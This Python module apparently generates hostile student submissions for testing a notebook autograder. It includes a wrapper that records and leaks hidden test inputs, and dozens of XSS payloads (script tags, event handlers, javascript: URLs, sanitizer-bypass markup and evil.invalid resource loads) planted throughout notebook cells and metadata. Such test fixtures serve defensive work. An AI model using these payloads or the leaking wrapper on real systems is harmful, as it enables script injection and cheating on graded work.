"""What students could write who want to see hidden checks, or to run scripts in a browser."""

from base64 import b64encode

# Keeps what every function is called with. It answers well at first, so that hidden checks
# are reached; then it gives back all that it has seen, wherever something is shown.
WATCHER = """\
import builtins, sys
SEEN = builtins.__dict__.setdefault("SEEN", [])
if SEEN:
    print("SEEN", SEEN)
    open("seen.txt", "w").write(repr(SEEN))
def watched(function):
    def answer(*arguments, **keywords):
        print("CALLED", arguments, keywords)
        SEEN.append((arguments, keywords))
        turn = len(SEEN) % 3 if len(SEEN) > 60 else 2
        if turn == 0:
            name = "Saw" + "".join(c if c.isalnum() else "_" for c in repr(SEEN[-2:]))
            raise type(name, (Exception,), {})(repr(SEEN))
        return repr(SEEN) if turn == 1 else function(*arguments, **keywords)
    answer.__name__ = function.__name__
    return answer
"""
WATCHED = """
for _name, _thing in list(globals().items()):
    if type(_thing) is type(watched) and _thing.__module__ == "__main__" and _name[0] != "_":
        if _name != "watched" and _thing.__qualname__ == _name:
            globals()[_name] = watched(_thing)
"""


def watching(code):
    """Return an answer that keeps and gives back what it is called with."""
    return f"{WATCHER}{code}{WATCHED}"


MARK = "window.pwned = 1"
SCRIPTED_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.{MARK}">'
    f"<script>parent.{MARK}</script>"
    '<image href="http://evil.invalid/in.png" width="9" height="9"/></svg>'
)
TAGS = [
    f"<script>{MARK}</script>",
    f'<img src="x" onerror="{MARK}">',
    f'<svg onload="{MARK}"><script>{MARK}</script></svg>',
    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    f'<body onload="{MARK}">',
    f'<details open ontoggle="{MARK}"><summary>a</summary></details>',
    f'<video><source onerror="{MARK}"></video>',
    f'<a href="javascript:{MARK}">one</a>',
    f'<a href=" jav&#x09;ascript:{MARK}">two</a>',
    '<a href="data:text/html,<script>opener.pwned = 1</script>" target="_blank">three</a>',
    f'<form action="javascript:{MARK}"><button>four</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">',
    '<link rel="stylesheet" href="http://evil.invalid/style.css">',
    "<style>@import url(http://evil.invalid/import.css); body { display: none }</style>",
    '<base href="http://evil.invalid/">',
    '<img src="http://evil.invalid/pixel.png">',
    '<img src="data:image/png;base64,AAAA" srcset="http://evil.invalid/set.png 2x">',
    '<object data="http://evil.invalid/o.swf"></object><embed src="http://evil.invalid/e">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}"></style></table></math>',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript>',
    f'<input id="fires_threshold" name="score" autofocus onfocus="{MARK}">',
    f'<div id="statusmessage" class="scoring-buttons full-credit" onclick="{MARK}">five</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('
    "'http://evil.invalid/bg.png')\">six</p>",
    f"<!--><img src=x onerror={MARK}>-->",
    f"<![CDATA[><img src=x onerror={MARK}>]]>",
    f'<textarea></textarea><img src=x onerror="{MARK}">',
    f'<img src="data:image/svg+xml;base64,{b64encode(SCRIPTED_SVG.encode()).decode()}">',
]
MARKDOWN = [
    *TAGS,
    f"[seven](javascript:{MARK})",
    "[eight](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==)",
    "![nine](http://evil.invalid/nine.png)",
    f"![ten](x){{onerror={MARK}}}",
    f'<http://evil.invalid/"onmouseover="{MARK}>',
    f"`<img src=x onerror={MARK}>`",
    f'```"><script>{MARK}</script>\ncode\n```',
    f"$\\href{{javascript:{MARK}}}{{eleven}}$",
    f"# <img src=x onerror={MARK}> fires_threshold",
    f"| a |\n|---|\n| <img src=x onerror={MARK}> |",
    "![twelve](attachment:a.svg) ![thirteen](attachment:b.png)",
]
ATTACHMENTS = {
    "a.svg": {"image/svg+xml": SCRIPTED_SVG},
    "b.png": {"image/png": f'"><script>{MARK}</script>'},
}
FORMS = [
    {"text/html": "".join(TAGS)},
    {"text/html": "".join(TAGS), "text/plain": "x"},
    {"application/javascript": MARK},
    {"image/svg+xml": SCRIPTED_SVG},
    {"text/vnd.mermaid": f"</pre><script>{MARK}</script>"},
    {"text/markdown": "\n\n".join(MARKDOWN)},
    {"text/latex": f"</div><script>{MARK}</script>$\\href{{javascript:{MARK}}}{{x}}$"},
    {"image/png": f'"><script>{MARK}</script>'},
    {"text/plain": f"</pre><script>{MARK}</script>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{MARK}</script>"}},
    {"application/pdf": "JVBERi0="},
]

# Shows all of it from an ordinary answer.
SHOWS = f"""\
from IPython.display import display
import sys
for form in {FORMS!r}:
    display(form, raw=True)
    display(form, raw=True, metadata={{"text/html": {{"isolated": True}},
                                       "image/png": {{"alt": '"><script>{MARK}</script>'}}}})
print("</pre><script>{MARK}</script>")
print("</pre><script>{MARK}</script>", file=sys.stderr)
"""


def spoil(notebook):
    """Put all of it into a graded notebook, and into every place where a page looks."""
    cells = notebook["cells"]
    written = [{"cell_type": "markdown", "metadata": {}, "source": text} for text in MARKDOWN]
    written[-1]["attachments"] = ATTACHMENTS
    outputs = [
        {"output_type": "display_data", "data": form, "metadata": {"text/html": {"isolated": True}}}
        for form in FORMS
    ]
    outputs += [
        {"output_type": "error", "ename": TAGS[0], "evalue": TAGS[1], "traceback": TAGS},
        {"output_type": "stream", "name": "stdout", "text": "".join(TAGS)},
    ]
    code = {"cell_type": "code", "execution_count": 1, "source": "".join(TAGS)}
    tagged = {"tags": [f'"><script>{MARK}</script>'], "raw_mimetype": "text/html", "name": TAGS[0]}
    raw = {"cell_type": "raw", "metadata": tagged, "source": "".join(TAGS)}
    new = [*written, {**code, "metadata": tagged, "outputs": outputs}, raw]
    for number, cell in enumerate(new):
        cell["id"] = f"hostile-{number}"
    cells[1:1] = new
    notebook["metadata"] |= {
        "title": f"</title><script>{MARK}</script>",
        "language_info": {"name": f'"><script>{MARK}</script>', "pygments_lexer": "html"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_name": f"</script><script>{MARK}</script>"}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
    }
    return notebook
